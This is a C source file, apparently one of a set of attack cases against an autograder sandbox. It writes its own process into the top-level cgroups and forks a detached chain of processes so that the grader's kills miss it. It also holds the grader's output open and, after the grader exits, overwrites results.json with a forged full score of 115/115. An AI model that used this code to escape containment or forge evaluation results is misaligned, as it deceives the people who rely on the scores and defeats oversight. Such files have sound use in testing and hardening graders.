/*
 * Leaves its cgroups for the top ones, forks a chain of processes deeper
 * than a process-group kill (or a kill of the grader's own children)
 * reaches, holds the grader's own output open (so that whoever waits for
 * the grader waits on), and once the grader has exited rewrites
 * results.json with full marks.
 */
#include "attack.h"

#include <sys/wait.h>

#define WAIT_STEP_US 20000
#define WAIT_STEPS 1500		/* 30 s at most */

static const char *const TOP_GROUPS[] = {
	"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs",
	"/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs",
	"/sys/fs/cgroup/cpu/cgroup.procs",
};

static int holds;

/* Whether pid has exited (gone, or a zombie waiting for its parent). */
static int has_exited(pid_t pid)
{
	char path[64], text[512];
	char *paren;
	FILE *f;
	char state = 'Z';

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	f = fopen(path, "r");
	if (!f)
		return 1;
	if (fgets(text, sizeof(text), f) && (paren = strrchr(text, ')')))
		state = paren[2];
	fclose(f);
	return state == 'Z' || state == 'X';
}

/* Opens the stdout of the graders above it; returns the nearest one. */
static pid_t hold_grader_output(void)
{
	pid_t graders[MAX_ROOTS];
	int count = grader_ancestors(graders, MAX_ROOTS);

	for (int i = 0; i < count; i++) {
		char path[64];

		snprintf(path, sizeof(path), "/proc/%d/fd/1", (int)graders[i]);
		if (open(path, O_WRONLY) >= 0)
			holds++;
	}
	return count > 0 ? graders[0] : -1;
}

void attack(void)
{
	char dir[PATH_MAX], path[PATH_MAX + 32];
	ssize_t n = readlink("/proc/self/exe", dir, sizeof(dir) - 1);

	if (n <= 0)
		return;
	dir[n] = '\0';
	*strrchr(dir, '/') = '\0';
	snprintf(path, sizeof(path), "%s/results.json", dir);
	if (fork() != 0)
		return;
	setsid();
	/* The middle of the chain stays alive, so that the last link is not a
	 * child the grader would find and kill; it ends after the last. */
	pid_t last = fork();
	if (last != 0) {
		sleep(WAIT_STEPS * WAIT_STEP_US / 1000000 + 5);
		_exit(0);
	}
	for (size_t i = 0; i < sizeof(TOP_GROUPS) / sizeof(TOP_GROUPS[0]); i++) {
		char pid[32];

		snprintf(pid, sizeof(pid), "%d\n", (int)getpid());
		if (write_text(TOP_GROUPS[i], pid) == 0)
			attack_report("left for %s", TOP_GROUPS[i]);
	}
	pid_t grader = hold_grader_output();
	if (holds)
		attack_report("holds the output of %d grader process(es)", holds);
	for (int i = 0; i < WAIT_STEPS && grader > 0 && !has_exited(grader); i++)
		usleep(WAIT_STEP_US);
	if (write_text(path, "{\"lab\": \"01\", \"score\": 115, \"max_score\": 115, "
		       "\"grader_errors\": 0, \"grader_version\": \"forged\", \"seed\": null, "
		       "\"build_ok\": true, \"not_built\": [], \"tests\": []}\n") == 0)
		attack_report("rewrote %s after the grader", path);
	_exit(0);
}
